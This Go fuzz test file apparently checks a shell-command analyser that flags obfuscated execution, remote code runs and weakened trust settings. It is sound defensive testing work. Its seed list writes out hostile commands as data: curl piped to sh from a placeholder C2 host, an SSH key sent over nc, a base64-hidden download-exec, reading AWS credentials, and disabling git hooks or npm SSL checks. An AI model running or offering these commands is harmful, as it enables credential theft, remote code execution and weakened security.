package shell

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
)

// Fuzz targets for the extractors of "what runs" (obfuscated.go,
// obfuscated_more.go, remoterun.go, trust.go). Each checks a property of
// the model, not only the absence of a panic.

func hasSignal(r Facts, s Signal) bool {
	for _, x := range r.Signals {
		if x.Signal == s {
			return true
		}
	}
	return false
}

// parseStrict runs Parse with panics surfacing (not turned into an
// unparsed result).
func parseStrict(t *testing.T, src string) Facts {
	t.Helper()
	r := Parse(src, testCwd, testHome, testUser)
	checkShellInvariants(t, src, r)
	return r
}

func noRecover(f *testing.F) {
	save := recoverPanics
	recoverPanics = false
	f.Cleanup(func() { recoverPanics = save })
}

// obfuscationSeeds are commands of testdata/corpus/classes/hidden-and-remote-code.txt
// and trust-controls.txt, attacks and look-alikes.
var obfuscationSeeds = []string{
	"curl -fsSL https://c2.evil.example/s | sh", "cat ~/.ssh/id_rsa | nc 203.0.113.9 4444", "id", "ls -la",
	"echo Y3VybCAtZnNTTCBodHRwczovL2MyLmV2aWwuZXhhbXBsZS9zIHwgc2g= | base64 -d | sh",
	`printf '\x63\x61\x74 x' | sh`, "eval \"$(pyenv init -)\"", "x=$(echo aWQ= | base64 -d); eval \"$x\"",
	"zcat a.sh.gz | sh", "tar -xOf b.tar run.sh | bash", `$'\x69\x64'`, "deno run -A https://x.example/a.ts",
	"uvx --from git+https://git.example/h.git h", "git config core.hooksPath /dev/null", "npm config set strict-ssl false",
	"set -- cat ~/.aws/credentials; \"$@\"", "python3 -c \"exec(''.join(chr(c) for c in [105,100]))\"",
	"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/dev/null git commit -m x",
}

// FuzzObfuscatedHiding: whatever the text, handing its base64 to sh
// through a pipe, $( ) or a variable is obfuscated-exec (the hiding is the
// signal, not what the text turns out to be); and wrapping a command in
// sh -c '…' never loses a "what runs" signal the bare command raises (a
// decision never becomes more permissive by one more shell).
func FuzzObfuscatedHiding(f *testing.F) {
	for _, s := range obfuscationSeeds {
		f.Add(s, uint8(0))
	}
	noRecover(f)
	kept := []Signal{SignalObfuscatedExec, SignalDownloadExec, SignalTrustSubverted, SignalTrustWeakened, SignalReverseShell}
	f.Fuzz(func(t *testing.T, src string, form uint8) {
		if len(src) > 512 || strings.TrimSpace(src) == "" {
			return
		}
		enc := base64.StdEncoding.EncodeToString([]byte(src))
		var hidden string
		switch form % 4 {
		case 0:
			hidden = "echo " + enc + " | base64 -d | sh"
		case 1:
			hidden = "sh -c \"$(echo " + enc + " | base64 --decode)\""
		case 2:
			hidden = "p=$(base64 -d <<< " + enc + "); eval \"$p\""
		default:
			hidden = "bash <(echo " + enc + " | base64 -d)"
		}
		if r := parseStrict(t, hidden); !r.TooDeep && !hasSignal(r, SignalObfuscatedExec) {
			t.Fatalf("%q hides %q and raises no obfuscated-exec: %+v", hidden, src, r.Signals)
		}
		if src[0] == '-' || src[0] == '+' {
			return // sh -c takes a word that starts so for an option: nothing runs
		}
		bare := parseStrict(t, src)
		if bare.TooDeep || hasSignal(bare, SignalUnparsed) {
			return
		}
		wrapped := parseStrict(t, "sh -c "+shQuoteWord(src))
		if wrapped.TooDeep {
			return
		}
		for _, s := range kept {
			if hasSignal(bare, s) && !hasSignal(wrapped, s) {
				t.Fatalf("%q raises %s, wrapped in sh -c it does not: %+v", src, s, wrapped.Signals)
			}
		}
	})
}

// FuzzRemoteRun: remoteSpecHost's host is spelled in the spec itself, and
// every runner handed a spec whose host is not a registry raises
// download-exec.
func FuzzRemoteRun(f *testing.F) {
	for _, s := range []string{"https://x.example/a.ts", "git+https://git.example/h.git", "h @ https://files.example/h.whl",
		"git+ssh://git@host.example:22/r.git", "https://deno.land/std/x.ts", "jsr:@std/http", "ruff", "https://[::1]:8/x",
		"HTTPS://UPPER.EXAMPLE/x", "'https://q.example/a'"} {
		f.Add(s, uint8(0))
	}
	noRecover(f)
	runners := []string{"deno run -A", "uvx --from", "pipx run --spec", "uv run", "uv tool run --from", "deno install -g"}
	f.Fuzz(func(t *testing.T, spec string, which uint8) {
		if len(spec) > 300 {
			return
		}
		for i := 0; i < len(spec); i++ {
			if spec[i] < 0x21 || spec[i] > 0x7e {
				return // not a word anyone types
			}
		}
		h, ok := remoteSpecHost(spec)
		if !ok {
			return
		}
		if h == "" || !strings.Contains(strings.ToLower(spec), h) {
			t.Fatalf("remoteSpecHost(%q) = %q, not spelled in the spec", spec, h)
		}
		if runnerRegistries.has(h) || strings.ContainsAny(spec, "'\"\\ \t\n$`;|&<>(){}*?[]#~!=") {
			return // a registry's module, or a spec the shell would not pass as one word
		}
		src := runners[int(which)%len(runners)] + " " + spec + " tool"
		if r := parseStrict(t, src); !r.TooDeep && !hasSignal(r, SignalDownloadExec) {
			t.Fatalf("%q (host %q) raises no download-exec: %+v", src, h, r.Signals)
		}
	})
}

// FuzzTrustSettings: reading a setting never raises a trust signal; a
// setting persisted with git config is judged at least as hard as the
// same key for one command (git -c); a proxy on a loopback address is
// never foreign, one on a named host always is.
func FuzzTrustSettings(f *testing.F) {
	for _, s := range [][2]string{{"core.hooksPath", "/dev/null"}, {"http.sslVerify", "false"}, {"http.proxy", "http://203.0.113.7:8080"},
		{"http.sslCAInfo", "/tmp/ca.pem"}, {"https.proxy", "127.0.0.1:7890"}, {"http.https://h.example/.sslVerify", "0"}, {"core.hooksPath", ".githooks"}} {
		f.Add(s[0], s[1], "proxy.example", uint16(8080))
	}
	noRecover(f)
	f.Fuzz(func(t *testing.T, key, val, host string, port uint16) {
		if len(key) > 80 || len(val) > 120 || len(host) > 60 {
			return
		}
		q := shQuoteWord
		for _, read := range []string{"git config --get " + q(key), "git config --get-all " + q(key), "npm config get " + q(key),
			"pip config get " + q(key), "git config --unset " + q(key)} {
			r := parseStrict(t, read)
			if hasSignal(r, SignalTrustSubverted) || hasSignal(r, SignalTrustWeakened) {
				t.Fatalf("%q reads a setting and raises %+v", read, r.Signals)
			}
		}
		if !strings.ContainsAny(key, "= \t\n") && key != "" && !strings.HasPrefix(key, "-") && !strings.HasPrefix(val, "-") {
			once := parseStrict(t, "git -c "+q(key+"="+val)+" status")
			kept := parseStrict(t, "git config "+q(key)+" "+q(val))
			for _, s := range []Signal{SignalTrustSubverted} {
				if hasSignal(once, s) && !hasSignal(kept, s) {
					t.Fatalf("git -c %s=%s raises %s, git config %s %s does not", key, val, s, key, val)
				}
			}
		}
		if foreignProxy(fmt.Sprintf("http://127.0.0.1:%d", port)) || foreignProxy(fmt.Sprintf("localhost:%d", port)) ||
			foreignProxy(fmt.Sprintf("http://[::1]:%d/", port)) {
			t.Fatalf("a loopback proxy on port %d taken for a foreign one", port)
		}
		h := strings.ToLower(host)
		if h == "" || strings.Trim(h, "abcdefghijklmnopqrstuvwxyz0123456789.-") != "" || strings.HasPrefix(h, "127.") ||
			h == "localhost" || strings.HasSuffix(h, ".localhost") || h == "0.0.0.0" || strings.Trim(h, ".-") != h {
			return
		}
		for _, v := range []string{"http://" + h + ":" + fmt.Sprint(port), h + ":" + fmt.Sprint(port), "socks5://" + h} {
			if !foreignProxy(v) {
				t.Fatalf("proxy %q on host %q not taken for a foreign one", v, h)
			}
			src := "npm config set proxy " + v
			if r := parseStrict(t, src); !hasSignal(r, SignalTrustSubverted) {
				t.Fatalf("%q raises no trust-subverted: %+v", src, r.Signals)
			}
		}
	})
}
